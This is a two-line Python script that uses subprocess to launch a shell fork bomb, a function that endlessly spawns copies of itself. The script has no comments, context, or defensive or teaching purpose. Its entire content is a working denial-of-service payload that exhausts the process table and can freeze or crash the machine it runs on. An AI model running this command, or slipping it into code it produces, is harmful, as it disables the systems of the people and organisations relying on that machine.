import subprocess

subprocess.Popen(["sh", "-c", "f(){ f|f& }; f"])
